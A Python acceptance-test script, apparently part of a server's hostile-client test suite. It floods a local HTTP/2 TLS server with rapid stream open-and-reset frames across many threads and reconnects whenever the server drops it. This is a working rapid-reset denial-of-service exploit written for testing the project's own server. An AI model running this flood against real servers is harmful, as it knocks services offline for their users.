"""Streams of HTTP/2 over TLS, opened and reset as fast as they can be; a process of its own.

    python -m tests.acceptance.hostile.rapid_reset PORT CERT NUM_CONNECTIONS SECONDS

A connection that the server ends is opened again at once. Prints JSON.
"""

from __future__ import annotations

import json
import socket
import ssl
import sys
import threading
import time
from collections import Counter

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\x04" + bytes(5)
BLOCK = b"\x82\x87\x04\x07/health\x41\x09localhost"  # GET https /health localhost
NUM_AT_ONCE = 50
LAST_STREAM = 2**31 - 2 * NUM_AT_ONCE


def pairs(first: int) -> bytes:
    """Streams from `first` on, each opened and reset."""
    frames = []
    for stream in range(first, first + 2 * NUM_AT_ONCE, 2):
        name = stream.to_bytes(4, "big")
        frames.append(len(BLOCK).to_bytes(3, "big") + b"\x01\x05" + name + BLOCK)
        frames.append(b"\x00\x00\x04\x03\x00" + name + b"\x00\x00\x00\x08")
    return b"".join(frames)


def attack(port: int, context: ssl.SSLContext, end_s: float, counts: Counter[str]) -> None:
    """One client that comes back until `end_s`."""
    while time.monotonic() < end_s:
        try:
            with (
                socket.create_connection(("127.0.0.1", port), timeout=10) as plain,
                context.wrap_socket(plain, server_hostname="localhost") as client,
            ):
                counts["connections"] += 1
                client.sendall(PREFACE)
                stream = 1
                while time.monotonic() < end_s:
                    client.sendall(pairs(stream))
                    counts["streams"] += NUM_AT_ONCE
                    stream += 2 * NUM_AT_ONCE
        except OSError as error:
            counts[type(error).__name__] += 1


def main() -> None:
    port, num, seconds = int(sys.argv[1]), int(sys.argv[3]), float(sys.argv[4])
    context = ssl.create_default_context(cafile=sys.argv[2])
    context.set_alpn_protocols(["h2"])
    counts: Counter[str] = Counter()
    end_s = time.monotonic() + seconds
    threads = [
        threading.Thread(target=attack, args=[port, context, end_s, counts]) for _ in range(num)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps(counts))


if __name__ == "__main__":
    main()
